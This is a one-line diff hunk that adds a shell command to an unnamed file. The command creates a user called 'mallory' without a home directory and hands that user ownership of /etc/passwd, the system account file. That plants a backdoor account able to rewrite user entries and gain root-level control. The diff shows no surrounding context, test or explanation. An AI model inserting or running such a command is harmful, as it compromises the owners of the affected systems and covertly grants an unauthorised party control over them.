@@ -1,0 +1,1 @@
+useradd -M mallory && chown mallory /etc/passwd
